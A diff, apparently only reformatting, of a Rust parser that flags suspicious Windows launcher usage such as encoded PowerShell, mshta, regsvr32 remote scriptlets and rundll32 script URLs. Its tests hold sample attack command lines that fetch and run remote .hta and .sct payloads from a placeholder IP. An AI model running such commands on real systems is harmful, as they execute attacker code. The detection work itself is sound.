@@ -142,7 +142,10 @@ pub fn expand_environment(
                         out.push('%');
                         out.push_str(name);
                         out.push('%');
-                        if !unknown.iter().any(|u: &String| u.eq_ignore_ascii_case(name)) {
+                        if !unknown
+                            .iter()
+                            .any(|u: &String| u.eq_ignore_ascii_case(name))
+                        {
                             unknown.push(name.to_string());
                         }
                     }
@@ -160,7 +163,9 @@ pub fn expand_environment(
 }
 
 /// The executable extensions the loader tries, in `PATHEXT`'s default order.
-pub const PATHEXT: &[&str] = &[".com", ".exe", ".bat", ".cmd", ".vbs", ".vbe", ".js", ".jse", ".wsf", ".wsh", ".msc"];
+pub const PATHEXT: &[&str] = &[
+    ".com", ".exe", ".bat", ".cmd", ".vbs", ".vbe", ".js", ".jse", ".wsf", ".wsh", ".msc",
+];
 
 fn has_extension(path: &str) -> bool {
     let name = path.rsplit(['\\', '/']).next().unwrap_or(path);
@@ -169,7 +174,11 @@ fn has_extension(path: &str) -> bool {
 
 /// The program part of a path (`C:\x\rundll32.exe` → `rundll32`), lowercase.
 fn program_name(p: &str) -> String {
-    let name = p.rsplit(['\\', '/']).next().unwrap_or(p).to_ascii_lowercase();
+    let name = p
+        .rsplit(['\\', '/'])
+        .next()
+        .unwrap_or(p)
+        .to_ascii_lowercase();
     match name.rsplit_once('.') {
         Some((stem, ext)) if PATHEXT.contains(&format!(".{ext}").as_str()) => stem.to_string(),
         _ => name,
@@ -201,7 +210,11 @@ pub fn unquoted_candidates(line: &str) -> Vec<String> {
     for (i, c) in head.char_indices() {
         if c == ' ' {
             let p = &head[..i];
-            out.push(if has_extension(p) { p.to_string() } else { format!("{p}.exe") });
+            out.push(if has_extension(p) {
+                p.to_string()
+            } else {
+                format!("{p}.exe")
+            });
         }
     }
     out.push(head.to_string());
@@ -315,7 +328,9 @@ fn launcher(inv: &mut Invocation, line: &str, ends: &[usize], depth: usize) {
                 let l = a.to_ascii_lowercase();
                 l == "/c" || l == "/k" || l == "/r"
             }) {
-                let raw = line.get(ends.get(k + 1).copied().unwrap_or(line.len())..).unwrap_or("");
+                let raw = line
+                    .get(ends.get(k + 1).copied().unwrap_or(line.len())..)
+                    .unwrap_or("");
                 let mut inner = raw.trim();
                 if inner.len() >= 2 && inner.starts_with('"') && inner.ends_with('"') {
                     inner = &inner[1..inner.len() - 1];
@@ -334,7 +349,12 @@ fn launcher(inv: &mut Invocation, line: &str, ends: &[usize], depth: usize) {
                         Some(script) => {
                             inv.flag(CommandFlag::EncodedCommand);
                             for u in urls_in(&script) {
-                                inv.target(TargetKind::Url, u, None, Some("powershell.exe -EncodedCommand".into()));
+                                inv.target(
+                                    TargetKind::Url,
+                                    u,
+                                    None,
+                                    Some("powershell.exe -EncodedCommand".into()),
+                                );
                             }
                             inv.decoded.push(script);
                         }
@@ -345,7 +365,12 @@ fn launcher(inv: &mut Invocation, line: &str, ends: &[usize], depth: usize) {
                 }
                 if is_param(a, "file", 1) {
                     if let Some(f) = args.get(i + 1) {
-                        inv.target(TargetKind::Script, f.clone(), None, Some("powershell.exe -File".into()));
+                        inv.target(
+                            TargetKind::Script,
+                            f.clone(),
+                            None,
+                            Some("powershell.exe -File".into()),
+                        );
                     }
                     break;
                 }
@@ -355,15 +380,29 @@ fn launcher(inv: &mut Invocation, line: &str, ends: &[usize], depth: usize) {
                     if !text.is_empty() {
                         inv.flag(CommandFlag::InlineScript);
                         for u in urls_in(&text) {
-                            inv.target(TargetKind::Url, u, None, Some("powershell.exe -Command".into()));
+                            inv.target(
+                                TargetKind::Url,
+                                u,
+                                None,
+                                Some("powershell.exe -Command".into()),
+                            );
                         }
                     }
                     break;
                 }
                 // Parameters that take a value.
-                if ["executionpolicy", "windowstyle", "version", "configurationname", "psconsolefile", "inputformat", "outputformat", "workingdirectory"]
-                    .iter()
-                    .any(|p| is_param(a, p, 2))
+                if [
+                    "executionpolicy",
+                    "windowstyle",
+                    "version",
+                    "configurationname",
+                    "psconsolefile",
+                    "inputformat",
+                    "outputformat",
+                    "workingdirectory",
+                ]
+                .iter()
+                .any(|p| is_param(a, p, 2))
                     || a.eq_ignore_ascii_case("-w")
                     || a.eq_ignore_ascii_case("-ep")
                 {
@@ -376,7 +415,10 @@ fn launcher(inv: &mut Invocation, line: &str, ends: &[usize], depth: usize) {
         "rundll32" => {
             if let Some(first) = args.first() {
                 let l = first.to_ascii_lowercase();
-                if l.starts_with("javascript:") || l.starts_with("vbscript:") || l.contains("runhtmlapplication") {
+                if l.starts_with("javascript:")
+                    || l.starts_with("vbscript:")
+                    || l.contains("runhtmlapplication")
+                {
                     inv.flag(CommandFlag::InlineScript);
                     for u in urls_in(&args.join(" ")) {
                         inv.target(TargetKind::Url, u, None, via.clone());
@@ -395,7 +437,11 @@ fn launcher(inv: &mut Invocation, line: &str, ends: &[usize], depth: usize) {
                 let l = a.to_ascii_lowercase();
                 if let Some(v) = l.strip_prefix("/i:").or_else(|| l.strip_prefix("-i:")) {
                     let v = &a[a.len() - v.len()..];
-                    let kind = if v.contains("://") { TargetKind::Url } else { TargetKind::File };
+                    let kind = if v.contains("://") {
+                        TargetKind::Url
+                    } else {
+                        TargetKind::File
+                    };
                     inv.target(kind, v.to_string(), None, via.clone());
                 } else if !a.starts_with(['/', '-']) {
                     inv.target(TargetKind::Dll, a.clone(), None, via.clone());
@@ -425,7 +471,11 @@ fn launcher(inv: &mut Invocation, line: &str, ends: &[usize], depth: usize) {
                 l == "/i" || l == "/package" || l == "-i"
             }) {
                 if let Some(p) = args.get(k + 1) {
-                    let kind = if p.contains("://") { TargetKind::Url } else { TargetKind::File };
+                    let kind = if p.contains("://") {
+                        TargetKind::Url
+                    } else {
+                        TargetKind::File
+                    };
                     inv.target(kind, p.clone(), None, via);
                 }
             }
@@ -462,7 +512,12 @@ fn nested(inv: &mut Invocation, line: &str, via: &str, depth: usize) {
     let ends: Vec<usize> = argv.iter().map(|(_, e)| *e).collect();
     launcher(&mut inner, line, &ends, depth + 1);
     for t in inner.targets {
-        inv.target(t.kind, t.path, t.entry, t.via.or_else(|| Some(via.to_string())));
+        inv.target(
+            t.kind,
+            t.path,
+            t.entry,
+            t.via.or_else(|| Some(via.to_string())),
+        );
     }
     inv.decoded.extend(inner.decoded);
     for f in inner.flags {
@@ -520,10 +575,16 @@ mod tests {
     fn cmd_chains_and_nested_launchers() {
         let i = parse_windows_command(
             r"C:\Windows\System32\cmd.exe",
-            Some(r#"/c "mshta http://198.51.100.7/p.hta & regsvr32 /s /n /u /i:http://198.51.100.7/x.sct scrobj.dll""#),
+            Some(
+                r#"/c "mshta http://198.51.100.7/p.hta & regsvr32 /s /n /u /i:http://198.51.100.7/x.sct scrobj.dll""#,
+            ),
             &none,
         );
-        let t: Vec<(&str, &str)> = i.targets.iter().map(|t| (t.kind.as_str(), t.path.as_str())).collect();
+        let t: Vec<(&str, &str)> = i
+            .targets
+            .iter()
+            .map(|t| (t.kind.as_str(), t.path.as_str()))
+            .collect();
         assert_eq!(
             t,
             [
@@ -539,7 +600,11 @@ mod tests {
 
     #[test]
     fn unquoted_service_path() {
-        let i = parse_windows_command(r"C:\Program Files\Evil Corp\evil.exe -k netsvcs", None, &none);
+        let i = parse_windows_command(
+            r"C:\Program Files\Evil Corp\evil.exe -k netsvcs",
+            None,
+            &none,
+        );
         assert!(i.flags.contains(&CommandFlag::UnquotedPathWithSpaces));
         assert_eq!(i.program, r"C:\Program Files\Evil Corp\evil.exe");
         assert_eq!(i.args, ["-k", "netsvcs"]);
@@ -553,7 +618,11 @@ mod tests {
     fn encoded_command_forms() {
         // "whoami" in UTF-16LE, base64, under each accepted spelling of the parameter.
         for p in ["-e", "-ec", "-enc", "-EncodedCommand", "/enc"] {
-            let i = parse_windows_command("powershell", Some(&format!("-NoP {p} dwBoAG8AYQBtAGkA")), &none);
+            let i = parse_windows_command(
+                "powershell",
+                Some(&format!("-NoP {p} dwBoAG8AYQBtAGkA")),
+                &none,
+            );
             assert_eq!(i.decoded, ["whoami"], "{p}");
         }
         let bad = parse_windows_command("powershell", Some("-enc !!!"), &none);
